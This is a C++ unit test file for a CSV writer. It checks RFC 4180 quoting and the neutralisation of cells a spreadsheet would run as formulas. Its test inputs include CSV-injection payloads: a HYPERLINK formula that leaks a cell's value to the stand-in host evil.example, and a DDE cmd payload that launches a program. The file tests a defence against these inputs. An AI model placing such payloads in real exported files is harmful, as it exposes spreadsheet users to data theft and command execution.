// The shared CSV writer: RFC 4180 quoting, CRLF records, the BOM, and OWASP's neutralisation of
// text cells that a spreadsheet would run as a formula.
#include "labgate/gateway/csv/writer.hpp"

#include <catch2/catch.hpp>
#include <cstdint>
#include <initializer_list>
#include <limits>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace csv = labgate::gateway::csv;

namespace {

// Each text cell and the bytes it must become.
void expect_cells(std::initializer_list<std::pair<std::string_view, std::string_view>> cases) {
  for (const auto& [text, written] : cases) {
    INFO("text cell: " << text);
    CHECK(csv::text_cell(text) == written);
  }
}

}  // namespace

TEST_CASE("csv: plain text cells are written as they are", "[csv]") {
  expect_cells({
      {"", ""},
      {"plain", "plain"},
      {"Aiko Tanaka", "Aiko Tanaka"},
      {"田中 愛子", "田中 愛子"},
      {"2026-11-24T08:40:00+09:00", "2026-11-24T08:40:00+09:00"},
      // Only the first character matters: these characters inside a cell are harmless.
      {"a=b", "a=b"},
      {"30m - 30m included", "30m - 30m included"},
      {"x@y", "x@y"},
      {" =1+1", " =1+1"},
      {"'quoted'", "'quoted'"},
  });
}

TEST_CASE("csv: RFC 4180 quoting of commas, quotes and line breaks", "[csv]") {
  expect_cells({
      {"a,b", "\"a,b\""},
      {"say \"hi\"", "\"say \"\"hi\"\"\""},
      {"\"", "\"\"\"\""},
      {"two\r\nlines", "\"two\r\nlines\""},
      {"line\nfeed", "\"line\nfeed\""},
      {"アクリル板\n3mm", "\"アクリル板\n3mm\""},
      {"田中 愛子, \"Aiko\"", "\"田中 愛子, \"\"Aiko\"\"\""},
  });
}

TEST_CASE("csv: a text cell starting like a formula gets a leading apostrophe", "[csv]") {
  expect_cells({
      {"=1+1", "'=1+1"},
      {"+81 3 1234 5678", "'+81 3 1234 5678"},
      {"-2+3", "'-2+3"},
      {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
      {"\tcmd", "'\tcmd"},
      // A carriage return also needs quoting: the apostrophe goes inside the quotes.
      {"\r=1", "\"'\r=1\""},
      {"=", "'="},
      {"-", "'-"},
      // Neutralised and quoted: the apostrophe is the first character of the cell's value.
      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
       "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""},
      {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
      {"@a,b", "\"'@a,b\""},
      {"-\"x\"", "\"'-\"\"x\"\"\""},
      {"+line\nbreak", "\"'+line\nbreak\""},
  });

  for (const char c : std::string("=+-@\t\r")) {
    INFO("leading character " << static_cast<int>(c));
    CHECK(csv::starts_like_formula(std::string(1, c) + "x"));
  }
  for (const char c : std::string("a1 '\"#%(!/\\_~.,\n")) {
    INFO("leading character " << static_cast<int>(c));
    CHECK_FALSE(csv::starts_like_formula(std::string(1, c) + "x"));
  }
  CHECK_FALSE(csv::starts_like_formula(""));
}

TEST_CASE("csv: number cells stay numbers, negative ones included", "[csv]") {
  std::string out;
  csv::Writer w(out);
  w.number(std::int64_t{-1200})
      .number(std::int64_t{0})
      .number(std::numeric_limits<std::int64_t>::min())
      .number(std::optional<std::int64_t>{})
      .number(std::optional<std::int64_t>{-5})
      .end_row();
  CHECK(out == "-1200,0,-9223372036854775808,,-5\r\n");
  // The same text as a text cell is neutralised: only our own numbers are written bare.
  expect_cells({
      {"-1200", "'-1200"},
  });
}

TEST_CASE("csv: records, empty cells, number lists and the byte order mark", "[csv]") {
  std::string out;
  csv::Writer w(out);
  w.bom().row({"member_no", "name", "total"});
  w.text("M0001").text("=evil()").number(std::int64_t{4020}).end_row();
  w.end_row();
  const std::vector<std::int64_t> ids = {3, 7, 12};
  w.text("total").empty().numbers(ids).numbers({}).end_row();
  CHECK(out ==
        "\xEF\xBB\xBFmember_no,name,total\r\n"
        "M0001,'=evil(),4020\r\n"
        "\r\n"
        "total,,3 7 12,\r\n");
  // The writer only appends: a second writer on the same buffer continues it.
  csv::Writer again(out);
  again.text("more").end_row();
  CHECK(out.substr(out.size() - 6) == "more\r\n");
  CHECK(csv::kUtf8Bom == "\xEF\xBB\xBF");
}
